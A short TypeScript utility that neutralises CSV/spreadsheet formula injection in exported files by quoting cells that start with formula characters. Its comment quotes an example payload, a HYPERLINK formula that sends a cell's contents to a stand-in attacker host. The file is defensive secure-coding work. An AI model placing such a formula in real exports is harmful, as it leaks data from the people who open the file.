/**
 * CSV files we hand to people are opened in spreadsheets, which run a cell starting with
 * = + - @ (or a tab or carriage return before one) as a formula: an imported customer name
 * like =HYPERLINK("http://evil.example/?"&A1) would leak data or run commands on the office PC.
 * OWASP's advice: prefix such cells with a single quote so they are shown as text.
 * Use this for exports and reports only, never for CSV that is read back as data.
 */
export function spreadsheetSafeCell(value: string): string {
  return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
}
